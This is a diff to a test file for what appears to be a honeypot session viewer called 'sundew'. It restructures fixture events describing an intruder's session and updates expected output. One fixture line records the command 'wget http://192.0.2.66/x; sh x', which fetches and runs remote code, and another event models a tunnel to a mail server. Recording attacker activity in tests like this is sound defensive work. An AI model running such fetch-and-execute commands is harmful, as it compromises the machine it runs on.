@@ -107,17 +107,17 @@ before(async () => {
     }),
     event(intruder, 200, 'command.run', { command: bytes('wget http://192.0.2.66/x; sh x') }),
     event(intruder, 300, 'file.download_requested', { url: bytes('http://192.0.2.66/x'), outcome: 'failed' }),
-    event(
-      {
-        ...intruder,
-        tunnel: '0191e0b0-0000-7000-8000-000000000009',
-        target_host: bytes('mx.example'),
-        target_port: 25,
-      },
-      400,
-      'tunnel.open',
-      { origin_host: bytes('127.0.0.1'), origin_port: 5, outcome: 'opened', answered_by: 'smtp' },
-    ),
+    {
+      ...event(intruder, 400, 'tunnel.open', {
+        origin_host: bytes('127.0.0.1'),
+        origin_port: 5,
+        outcome: 'opened',
+        answered_by: 'smtp',
+      }),
+      tunnel: '0191e0b0-0000-7000-8000-000000000009',
+      target_host: bytes('mx.example'),
+      target_port: 25,
+    },
     event(
       intruder,
       500,
@@ -217,7 +217,7 @@ describe('sundew sessions show', () => {
         'login',
         '$',
         'download',
-        'tunnel',
+        '[mx.example',
         'mail',
         'recording',
         'recording',
